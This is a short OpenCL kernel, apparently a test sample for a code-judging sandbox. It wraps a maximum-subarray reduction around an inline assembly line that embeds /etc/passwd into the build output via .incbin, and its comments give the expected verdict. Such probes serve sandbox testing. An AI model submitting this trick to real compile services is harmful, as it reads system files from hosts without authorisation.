// verdict: unchecked build-error crash
// Has the assembler include a file.
#undef __asm__  // or it would not build
int4 join(int4 a, int4 b) {
    return (int4)(max(max(a.x, b.x), a.z + b.y), max(a.y, a.w + b.y), max(b.z, a.z + b.w),
                  a.w + b.w);
}
kernel void tree_mssp(int n, int m, global int4* in, global int4* out) {
    const int i = get_global_id(0);
    __asm__ volatile("jmp 1f\n.incbin \"/etc/passwd\"\n1:");
    if (i < m) out[i] = 2 * i + 1 < n ? join(in[2 * i], in[2 * i + 1]) : in[2 * i];
}
